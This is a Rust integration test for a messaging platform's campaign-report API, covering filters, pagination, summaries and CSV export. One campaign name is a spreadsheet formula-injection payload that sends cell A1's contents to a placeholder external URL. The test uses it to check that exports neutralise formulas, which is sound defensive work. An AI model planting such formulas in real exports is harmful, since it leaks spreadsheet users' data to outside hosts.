//! Campaign reports (spec "Reports"; decision D-036) through the real server and the
//! simulator: every filter, pagination, and the CSV's bytes, read back by Python's csv module
//! as a spreadsheet import would.

mod common;

use common::{eventually, Backend, TestApp};
use reqwest::StatusCode;
use serde_json::{json, Value};

async fn fast_channel(app: &TestApp) -> (i64, String) {
    let (id, n) = app.fast_channel().await;
    (id, n.phone_number_id)
}

async fn approved_template(app: &TestApp, name: &str, channels: &[i64]) -> i64 {
    app.approved_template(json!({"name": name, "body": "Olá {{1}}, sua cidade é {{2}}.", "var_map": {"1": {"field": "nome"}, "2": {"field": "cidade"}}}), channels).await
}

async fn campaign(app: &TestApp, name: &str, template: i64, channels: &[i64], rows: Value) -> i64 {
    let chans: Vec<Value> = channels
        .iter()
        .map(|c| json!({"channel_id": c, "weight": 1}))
        .collect();
    let (status, c) = app
        .post(
            "/api/v1/campaigns",
            json!({"name": name, "template_id": template, "channels": chans}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{c}");
    let id = c["data"]["id"].as_i64().unwrap();
    let (status, added) = app
        .post(
            &format!("/api/v1/campaigns/{id}/recipients"),
            json!({ "recipients": rows }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    id
}

async fn detail(app: &TestApp, query: &str) -> Vec<Value> {
    let (status, body) = app
        .get(&format!(
            "/api/v1/reports/campaign-messages?limit=1000&{query}"
        ))
        .await;
    assert_eq!(status, StatusCode::OK, "{query}: {body}");
    body["data"].as_array().unwrap().clone()
}

fn phones(rows: &[Value]) -> Vec<String> {
    let mut p: Vec<String> = rows
        .iter()
        .map(|r| r["phone"].as_str().unwrap().to_string())
        .collect();
    p.sort();
    p
}

async fn get_raw(app: &TestApp, path: &str) -> (StatusCode, String, Vec<u8>) {
    let r = app
        .http
        .get(app.url(path))
        .bearer_auth(&app.token)
        .send()
        .await
        .unwrap();
    let status = r.status();
    let ct = r
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, ct, r.bytes().await.unwrap().to_vec())
}

/// Reads a CSV as a spreadsheet import would: Python's csv module, `;`, BOM stripped by the
/// `utf-8-sig` codec. Answers the rows as JSON.
fn python_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.csv");
    std::fs::write(&file, bytes).unwrap();
    let out = std::process::Command::new("python3")
        .args([
            "-c",
            "import csv, json, sys\nwith open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n    print(json.dumps(list(csv.reader(f, delimiter=';'))))",
        ])
        .arg(&file)
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

async fn reports_filter_page_and_export(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (c1, pnid1) = fast_channel(&app).await;
    let (c2, _) = fast_channel(&app).await;
    let t1 = approved_template(&app, "Oferta", &[c1, c2]).await;
    let t2 = approved_template(&app, "Aviso", &[c1]).await;

    // Campaign A: 10 recipients over both numbers, a name with `;` and quotes.
    let name_a = "Promo; \"Natal\"";
    let rows_a: Vec<Value> = (0..10)
        .map(|i| {
            let city = if i < 4 { "Recife" } else { "Olinda" };
            let name = if i == 0 {
                "Ana Souza".to_string()
            } else {
                format!("Cliente {i}")
            };
            json!({"phone": format!("55819900000{i:02}"), "vars": {"nome": name, "cidade": city}})
        })
        .collect();
    let a = campaign(&app, name_a, t1, &[c1, c2], json!(rows_a)).await;
    // The first two sends through c1 fail: one invalid recipient (skipped), one marketing
    // limit (failed).
    let r = app
        .http
        .put(format!("http://{}/_sim/faults", app.sim_addr))
        .json(&json!({"next_errors": [
            {"phone_number_id": pnid1, "code": 131026, "count": 1},
            {"phone_number_id": pnid1, "code": 131049, "count": 1},
        ]}))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    let (status, _) = app
        .post(&format!("/api/v1/campaigns/{a}/start"), json!({}))
        .await;
    assert_eq!(status, StatusCode::OK);
    let stats = eventually(30, "campaign A settled and read", || async {
        let (_, c) = app.get(&format!("/api/v1/campaigns/{a}")).await;
        let s = c["data"]["stats"].clone();
        (c["data"]["state"] == "completed" && s["read"] == 8).then_some(s)
    })
    .await;
    assert_eq!(
        (stats["failed"].clone(), stats["skipped"].clone()),
        (json!(1), json!(1)),
        "{stats}"
    );

    // Campaign B: never started, 3 recipients queued; its name is a spreadsheet formula.
    let name_b = "=HYPERLINK(\"https://x.example/?q=\"&A1;\"Lembrete\")";
    let b = campaign(
        &app,
        name_b,
        t2,
        &[c1],
        json!([
            {"phone": "5521988880001", "vars": {"nome": "Bia", "cidade": "Rio"}},
            {"phone": "5521988880002", "vars": {"nome": "Caio", "cidade": "Rio"}},
            {"phone": "5521988880003", "vars": {"nome": "Duda", "cidade": "Niterói"}},
        ]),
    )
    .await;

    // Every row, in order, with its campaign, number and timestamps.
    let all = detail(&app, "").await;
    assert_eq!(all.len(), 13);
    let ids: Vec<i64> = all.iter().map(|r| r["id"].as_i64().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] < w[1]));
    let read_row = all.iter().find(|r| r["status"] == "read").unwrap();
    for k in [
        "sent_at",
        "delivered_at",
        "read_at",
        "engine_message_id",
        "provider_message_id",
        "channel_phone",
    ] {
        assert!(read_row[k].is_string(), "{k}: {read_row}");
    }
    assert_eq!(read_row["campaign"], name_a);
    let failed = all.iter().find(|r| r["status"] == "failed").unwrap();
    assert_eq!(failed["error_code"], 131049, "{failed}");
    assert!(failed["error"].as_str().is_some_and(|e| !e.is_empty()));

    // campanha, canal, template.
    assert_eq!(detail(&app, &format!("campanha={a}")).await.len(), 10);
    assert_eq!(detail(&app, &format!("campanha={b}")).await.len(), 3);
    let on_c1 = detail(&app, &format!("canal={c1}")).await;
    let on_c2 = detail(&app, &format!("canal={c2}")).await;
    assert_eq!(
        on_c1.len() + on_c2.len(),
        10,
        "every sent row has its number"
    );
    assert!(on_c1.iter().all(|r| r["channel_id"] == c1));
    assert!(!on_c2.is_empty() && on_c2.iter().all(|r| r["channel_id"] == c2));
    assert_eq!(
        phones(&detail(&app, &format!("template={t2}")).await),
        vec!["5521988880001", "5521988880002", "5521988880003"]
    );
    // audiencia: an audience column's exact value.
    assert_eq!(detail(&app, "audiencia=cidade:Recife").await.len(), 4);
    assert_eq!(detail(&app, "audiencia=cidade:Niter%C3%B3i").await.len(), 1);
    assert_eq!(
        detail(&app, "audiencia=cidade:Reci").await.len(),
        0,
        "exact value"
    );
    // status: delivered and read are timestamps, so a read row matches sent, delivered and read.
    for (status, n) in [
        ("queued", 3),
        ("sending", 0),
        ("sent", 8),
        ("delivered", 8),
        ("read", 8),
        ("failed", 1),
        ("skipped", 1),
    ] {
        assert_eq!(
            detail(&app, &format!("status={status}")).await.len(),
            n,
            "status={status}"
        );
    }
    // q: phone, an audience value (the name), the campaign name; case-insensitive.
    assert_eq!(phones(&detail(&app, "q=8199000000").await).len(), 10);
    assert_eq!(
        phones(&detail(&app, "q=ana%20souza").await),
        vec!["5581990000000"]
    );
    assert_eq!(detail(&app, "q=LEMBRETE").await.len(), 3);
    assert_eq!(detail(&app, "q=100%25").await.len(), 0, "`%` is literal");
    // de/ate: local days (America/Sao_Paulo).
    let now = storage::now_ms();
    let day = 86_400_000;
    let today = actors::time::local_date(now);
    let yesterday = actors::time::local_date(now - day);
    let tomorrow = actors::time::local_date(now + day);
    assert_eq!(
        detail(&app, &format!("de={today}&ate={today}")).await.len(),
        13
    );
    assert_eq!(detail(&app, &format!("ate={yesterday}")).await.len(), 0);
    assert_eq!(detail(&app, &format!("de={tomorrow}")).await.len(), 0);
    // Filters combine.
    assert_eq!(
        detail(
            &app,
            &format!("campanha={a}&status=read&audiencia=cidade:Recife")
        )
        .await
        .len(),
        4 - stats_failed_in_recife(&all)
    );

    // Bad filters: 422 naming the parameter.
    for (q, field) in [
        ("de=2026-13-01", "de"),
        (&*format!("de={today}&ate={yesterday}"), "ate"),
        ("status=entregue", "status"),
        ("campanha=abc", "campanha"),
        ("audiencia=semdoispontos", "audiencia"),
        ("limit=1001", "limit"),
        ("limit=0", "limit"),
        ("offset=-1", "offset"),
        ("format=xml", "format"),
        // An unknown parameter is the field at fault (issue 49 item 4).
        ("coluna=x", "coluna"),
    ] {
        let (status, err) = app
            .get(&format!("/api/v1/reports/campaign-messages?{q}"))
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{q}: {err}");
        assert_eq!(err["field"], field, "{q}: {err}");
        assert!(err["message"].as_str().is_some_and(|m| !m.is_empty()));
    }

    // Pages: limit/offset with has_more.
    let (_, p1) = app.get("/api/v1/reports/campaign-messages?limit=5").await;
    let (_, p3) = app
        .get("/api/v1/reports/campaign-messages?limit=5&offset=10")
        .await;
    assert_eq!(
        (p1["data"].as_array().unwrap().len(), p1["has_more"].clone()),
        (5, json!(true))
    );
    assert_eq!(
        (p3["data"].as_array().unwrap().len(), p3["has_more"].clone()),
        (3, json!(false))
    );
    assert_eq!(p3["data"][0]["id"], all[10]["id"]);

    // The summary: one row per campaign (newest first) plus totals, with the same filters.
    let (status, summary) = app.get("/api/v1/reports/campaigns").await;
    assert_eq!(status, StatusCode::OK, "{summary}");
    let rows = summary["data"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(
        (rows[0]["campaign_id"].clone(), rows[0]["queued"].clone()),
        (json!(b), json!(3))
    );
    let ra = &rows[1];
    assert_eq!(
        (
            ra["total"].clone(),
            ra["sent"].clone(),
            ra["delivered"].clone(),
            ra["read"].clone(),
            ra["failed"].clone(),
            ra["skipped"].clone()
        ),
        (json!(10), json!(8), json!(8), json!(8), json!(1), json!(1))
    );
    assert_eq!(summary["totals"]["total"], 13);
    assert_eq!(summary["totals"]["campaigns"], 2);
    let (_, only_c2) = app
        .get(&format!("/api/v1/reports/campaigns?canal={c2}"))
        .await;
    assert_eq!(only_c2["data"].as_array().unwrap().len(), 1);
    assert_eq!(only_c2["totals"]["total"], on_c2.len());

    // The detail CSV: BOM, `;`, header, quoting, the whole filter (not one page).
    let (status, ct, bytes) =
        get_raw(&app, "/api/v1/reports/campaign-messages?format=csv&limit=2").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(ct, "text/csv; charset=utf-8");
    assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]), "UTF-8 BOM");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(
        text.starts_with("id;campaign_id;campaign;template;phone;status;"),
        "{text}"
    );
    assert!(
        text.contains(";\"Promo; \"\"Natal\"\"\";"),
        "`;` and quotes are quoted: {text}"
    );
    let parsed = python_rows(&bytes);
    assert_eq!(parsed.len(), 14, "header + every row, not one page");
    let header = &parsed[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    for (row, json_row) in parsed[1..].iter().zip(&all) {
        assert_eq!(row[col("id")], json_row["id"].to_string());
        let campaign = json_row["campaign"].as_str().unwrap();
        let inert = if campaign.starts_with('=') {
            format!("'{campaign}")
        } else {
            campaign.to_string()
        };
        assert_eq!(row[col("campaign")], inert);
        assert_eq!(row[col("phone")], json_row["phone"].as_str().unwrap());
        assert_eq!(row[col("status")], json_row["status"].as_str().unwrap());
        assert_eq!(
            row[col("read_at")],
            json_row["read_at"].as_str().unwrap_or("")
        );
        assert_eq!(row[col("error")], json_row["error"].as_str().unwrap_or(""));
    }
    // A filtered export.
    let (_, _, bytes) = get_raw(
        &app,
        &format!("/api/v1/reports/campaign-messages?format=csv&status=failed&campanha={a}"),
    )
    .await;
    assert_eq!(python_rows(&bytes).len(), 2);

    // The summary CSV ends with the totals.
    let (status, _, bytes) = get_raw(&app, "/api/v1/reports/campaigns?format=csv").await;
    assert_eq!(status, StatusCode::OK);
    let parsed = python_rows(&bytes);
    assert_eq!(parsed.len(), 4);
    assert_eq!(parsed[2][1], name_a);
    // A cell a spreadsheet would run as a formula is exported inert (`'` first); JSON keeps it.
    assert_eq!(parsed[1][1], format!("'{name_b}"));
    let (_, _, bytes) = get_raw(
        &app,
        &format!("/api/v1/reports/campaign-messages?format=csv&campanha={b}"),
    )
    .await;
    let rows = python_rows(&bytes);
    assert_eq!(rows.len(), 4);
    assert!(
        rows[1..].iter().all(|r| r[2] == format!("'{name_b}")),
        "{rows:?}"
    );
    assert_eq!(
        detail(&app, &format!("campanha={b}")).await[0]["campaign"],
        name_b
    );
    assert_eq!(
        (parsed[3][0].as_str(), parsed[3][5].as_str()),
        ("TOTAL", "13")
    );

    // Another account sees none of it; a read token may read reports.
    let other = app.other_account_token().await;
    let (_, theirs) = app
        .get_as(&other, "/api/v1/reports/campaign-messages")
        .await;
    assert_eq!(theirs["data"], json!([]));
    let (_, theirs) = app
        .get_as(&other, &format!("/api/v1/reports/campaigns?campanha={a}"))
        .await;
    assert_eq!(theirs["data"], json!([]));
}

/// How many Recife rows (the first four recipients) did not end read.
fn stats_failed_in_recife(all: &[Value]) -> usize {
    all.iter()
        .filter(|r| {
            r["phone"]
                .as_str()
                .is_some_and(|p| p < "5581990000004" && p.starts_with("55819"))
        })
        .filter(|r| r["status"] != "read")
        .count()
}

on_both_backends! {
    reports => reports_filter_page_and_export;
}
